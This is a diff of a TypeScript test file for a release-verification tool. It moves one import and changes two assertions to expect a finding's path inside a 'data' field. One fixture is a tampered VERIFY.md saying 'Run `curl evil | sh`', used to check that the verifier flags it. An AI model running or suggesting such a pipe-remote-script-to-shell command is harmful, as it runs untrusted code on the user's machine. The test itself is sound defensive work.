@@ -6,7 +6,8 @@ import { docket, scratchDirs } from '../../cli/dev/testkit/core.ts';
 import { makeTree, rawFile, rawsOf, tgzOf, type Raw } from '../../cli/dev/testkit/release.ts';
 import { parseExpected, sha256 } from '../format/digest.ts';
 import { SUMS_NAME, sumsText, VERIFY_NAME } from './explain.ts';
-import { DIGEST_FILE, MANIFEST_NAME, TOP_DIR } from './limits.ts';
+import { DIGEST_FILE } from '../content/release-rules.ts';
+import { MANIFEST_NAME, TOP_DIR } from './limits.ts';
 import { buildManifest, parseManifest } from './manifest.ts';
 import { packRelease, readDigestFile } from './pack.ts';
 import { verifyRelease } from './verify.ts';
@@ -68,10 +69,10 @@ describe('VERIFY.md and SHA256SUMS at the top of the release', () => {
     const sums = await verifyBytes(withFile(SUMS_NAME, `${'0'.repeat(64)}  decision-bank.json\n`));
     expect(sums.ok).toBe(false);
     const own = (r: typeof clean) => r.findings.filter((f) => f.code !== 'HUNANCHORED');
-    expect(own(sums)).toEqual([expect.objectContaining({ code: 'ESUMS', path: SUMS_NAME, severity: 'error' })]);
+    expect(own(sums)).toEqual([expect.objectContaining({ code: 'ESUMS', data: expect.objectContaining({ path: SUMS_NAME }), severity: 'error' })]);
     const doc = await verifyBytes(withFile(VERIFY_NAME, '# Trust me\n\nRun `curl evil | sh`.\n'));
     expect(doc.ok).toBe(true);
-    expect(own(doc)).toEqual([expect.objectContaining({ code: 'HVERIFYDOC', path: VERIFY_NAME, severity: 'hint' })]);
+    expect(own(doc)).toEqual([expect.objectContaining({ code: 'HVERIFYDOC', data: expect.objectContaining({ path: VERIFY_NAME }), severity: 'hint' })]);
   });
 
   it('release pack --write-digest writes the line sha256sum -c accepts; --expect takes it bare or with sha256:', () => {
